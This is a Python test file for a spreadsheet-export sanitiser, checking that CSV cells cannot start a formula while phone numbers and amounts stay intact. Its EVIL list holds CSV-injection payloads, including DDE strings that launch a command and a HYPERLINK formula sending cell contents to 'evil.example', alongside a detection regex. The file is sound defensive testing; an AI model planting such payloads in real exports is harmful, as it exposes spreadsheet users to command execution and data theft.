"""No cell of ours is a formula, and no number or telephone number is spoilt."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.spreadsheet import csv_lines, csv_table, harmless, neutral

ROOT = Path(__file__).resolve().parents[2]
EVIL = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\x00=1+1",
    "\ufeff=1+1", "\u200b=1+1", '"=1+1', "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "−1+A1", "+A1", "+33+A1",
    "Anne;=1+1", "Anne,=1+1", "Anne\t=1+1", "Anne\r\n=1+1", "Anne; @SUM(A1)", 'Anne;"=1+1"', "a|=1+1", "+(1)",
    "-5;=1",
    "+33 6 12 34 56 78=1",
)  # fmt: skip
FINE = (
    "", "Anne", "+33612345678", "+33 6 12 34 56 78", "+1 (555) 010-9999", "-12,50", "-12.50", "+3", "-1e5",
    "-12 500,00", "-12\u202f500 €", "+12,5 %", "12-14", "a-b", "a = b", "anne@example.org", "1;2;-3;+4",
    "l’été", "Rendez-vous le 3, à 9 h", "https://example.org/?a=1&b=2", "2031-03-03",
)  # fmt: skip
FORMULA = re.compile(r"(?:^|[;,|\t\r\n])[\s\"\u0000-\u001f\ufeff\u200b-\u200f]*[=@＝＠﹦﹫＋－﹢﹣−]")


@pytest.mark.parametrize("text", EVIL)
def test_no_formula_is_left(text: str) -> None:
    made = harmless(text)
    assert "'" in made
    assert not FORMULA.search(made)


@pytest.mark.parametrize("text", FINE)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text(alphabet="=+-@;,|\t\r\n \"'0aA1()＝\u200b\x00", max_size=12))
def test_whatever_is_written_no_cell_begins_a_formula_in_any_reading(text: str) -> None:
    made = harmless(text)
    assert not FORMULA.search(made)
    for begins in re.finditer(r"(?:^|[;,|\t\r\n])([+-].*?)(?=$|[;,|\t\r\n])", made):
        assert re.fullmatch(r"[+-][\d .()\-,]*", begins.group(1)), made
    line = "".join(csv_lines([["x", text]]))
    [row] = csv.reader(io.StringIO(line, newline=""))
    assert row == ["x", made]


def test_other_values_than_texts_are_left_alone() -> None:
    assert [neutral(value) for value in (-5, 1.5, None, True)] == [-5, 1.5, None, True]


def test_a_table_has_its_columns_in_order_and_no_other() -> None:
    assert csv_table(("a", "b"), [{"b": "=1", "a": -1}, {}]) == "a,b\r\n-1,'=1\r\n,\r\n"
    with pytest.raises(ValueError, match="no column is called c"):
        csv_table(("a",), [{"c": 1}])


def test_nothing_else_of_ours_writes_csv() -> None:
    """A writer of its own would forget the apostrophe; the one of workbooks asks for it cell by cell."""
    folders = ("activities", "adapters", "api", "commands", "database", "domain", "rules", "seeds", "web")
    writers = re.compile(r"csv\.(writer|DictWriter)\(|xlsxwriter|openpyxl")
    found = [
        path.relative_to(ROOT).as_posix()
        for folder in folders
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text("utf-8"))
    ]
    assert found == ["adapters/table_files.py", "domain/spreadsheet.py"]
    assert "harmless(" in (ROOT / found[0]).read_text("utf-8")
